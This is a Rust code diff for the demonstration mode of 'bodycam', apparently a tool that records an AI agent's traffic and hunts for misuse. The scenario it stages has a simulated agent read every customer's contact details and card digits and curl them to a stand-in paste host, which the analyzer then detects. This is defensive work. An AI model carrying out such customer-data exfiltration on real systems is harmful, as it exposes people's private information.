@@ -2,6 +2,7 @@
 
 use std::io::{IsTerminal, Write};
 use std::net::SocketAddr;
+use std::os::unix::fs::OpenOptionsExt;
 use std::path::{Path, PathBuf};
 use std::process::ExitCode;
 use std::time::Instant;
@@ -21,6 +22,8 @@ use crate::config::Config;
 
 /// Days of ordinary work before today.
 const DAYS: i64 = 21;
+/// The copy of the lake with one altered cell, below the demonstration's directory.
+const ALTERED: &str = "lake-altered";
 /// One day, nanoseconds.
 const DAY_NS: i64 = 86_400_000_000_000;
 
@@ -78,7 +81,7 @@ pub fn tell(dir: &Path, offer_replay: bool) -> Result<ExitCode> {
             &scene.agent,
             "SELECT id, name, email, phone, card_last4 FROM customers",
         )?;
-    std::fs::write(&loot, &rows)?;
+    write_private(&loot, &rows)?;
     done(&format!("it read all {} customers ({} KiB)", company::CUSTOMERS, rows.len() / 1024));
     let before = scene.internet.received();
     agent::curl(scene.proxy, &scene.agent, &scene.url("drop.paste.example", "/upload"), Some(&loot))?;
@@ -91,7 +94,7 @@ pub fn tell(dir: &Path, offer_replay: bool) -> Result<ExitCode> {
 
     step("The gateway drains: every session sealed, every event in the lake");
     let recorded = running.drain()?;
-    done(&format!("{recorded} events in Parquet below {}", scene.lake.display()));
+    done(&format!("{recorded} events in Parquet below {}", named(&scene.lake)));
 
     let findings = scene.hunt(&config)?;
     scene.verify(&config)?;
@@ -100,14 +103,16 @@ pub fn tell(dir: &Path, offer_replay: bool) -> Result<ExitCode> {
     say(&format!(
         "\nAll of it took {} s. The lake lies in {}.",
         started.elapsed().as_secs(),
-        scene.lake.display()
+        named(&scene.lake)
     ));
     say("Look at what happened:");
-    let replay = format!("bodycam replay --config {}", scene.config.display());
-    say(&format!("  {replay}"));
-    say(&format!("  bodycam findings ls --config {}", scene.config.display()));
-    say(&format!("  bodycam verify --config {}", scene.config.display()));
+    let (program, at) = (program(), named(&scene.config));
+    say(&format!("  {program} replay --config {at}"));
+    say(&format!("  {program} findings ls --config {at}"));
+    say(&format!("  {program} verify --config {at}          (4: sound, and witnessed by nobody yet)"));
+    say(&format!("  {program} verify --lake {}    (2: the altered copy)", named(&dir.join(ALTERED))));
     say(&format!("({findings} findings; in the replay press ? for help, g f for the findings, q to leave)"));
+    say(&format!("Everything lies in {}: remove it when you have seen enough.", named(dir)));
     if offer_replay && std::io::stdout().is_terminal() && std::io::stdin().is_terminal() {
         print!("\nOpen the replay now? [Y/n] ");
         std::io::stdout().flush()?;
@@ -139,7 +144,7 @@ impl Scene {
         cluster.run("postgres", &company::role(&password))?;
         cluster.run("postgres", company::DATABASE)?;
         cluster.run("shop", &company::schema())?;
-        std::fs::write(dir.join("shop.password"), &password)?;
+        write_private(&dir.join("shop.password"), &password)?;
         done(&format!("{} customers, 60000 orders, on port {}", company::CUSTOMERS, cluster.port()));
 
         let internet = Internet::start()?;
@@ -173,7 +178,8 @@ impl Scene {
 
     fn hunt(&self, config: &Config) -> Result<usize> {
         step("The analyzer hunts: three weeks of windows, baselines from the agent's own history");
-        let options = detect::options(config, &config.lake.url)?;
+        let tenant = crate::tenant_key::load(&config.gateway.tenant_key, false)?;
+        let options = detect::options(config, &config.lake.url, Some(tenant))?;
         let mut found = Vec::new();
         let mut listen = |news: &_| found.push(detect::line(news));
         let summary = runtime()?.block_on(bodycam_analyzer::detect::run(options, &mut listen))?;
@@ -204,7 +210,7 @@ impl Scene {
         step(
             "Somebody with write access makes the theft look small, in a copy: one cell, in a valid Parquet file",
         );
-        let copy = dir.join("lake-altered");
+        let copy = dir.join(ALTERED);
         let altered = tamper::alter_one_cell(&self.lake, &copy)?;
         done(&format!(
             "rows {} → 3 in event {} of session {} ({})",
@@ -220,6 +226,25 @@ impl Scene {
             fault.class, altered.session, altered.seq, fault.detail
         ));
         Ok(())
+    }
+}
+
+/// Writes a file that nobody else may read.
+fn write_private(path: &Path, text: &str) -> Result<()> {
+    let mut file = std::fs::OpenOptions::new().write(true).create_new(true).mode(0o600).open(path)?;
+    Ok(file.write_all(text.as_bytes())?)
+}
+
+/// How a reader of the last lines starts this program: by name where the path leads to it.
+fn program() -> String {
+    let Ok(own) = std::env::current_exe() else { return "bodycam".to_owned() };
+    let path = std::env::var_os("PATH").unwrap_or_default();
+    let found = std::env::split_paths(&path).map(|dir| dir.join("bodycam")).find(|file| file.is_file());
+    let same = |found: PathBuf| found.canonicalize().ok() == own.canonicalize().ok();
+    if found.is_some_and(same) {
+        "bodycam".to_owned()
+    } else {
+        bodycam_record::shown(&own.display().to_string())
     }
 }
 
@@ -290,6 +315,11 @@ fn random_hex() -> Result<String> {
     let mut bytes = [0; 16];
     getrandom::fill(&mut bytes).context("no random bytes")?;
     Ok(bodycam_record::ids::to_hex(&bytes))
+}
+
+/// A path as text for the terminal.
+fn named(path: &Path) -> String {
+    bodycam_record::shown(&path.display().to_string())
 }
 
 fn say(text: &str) {
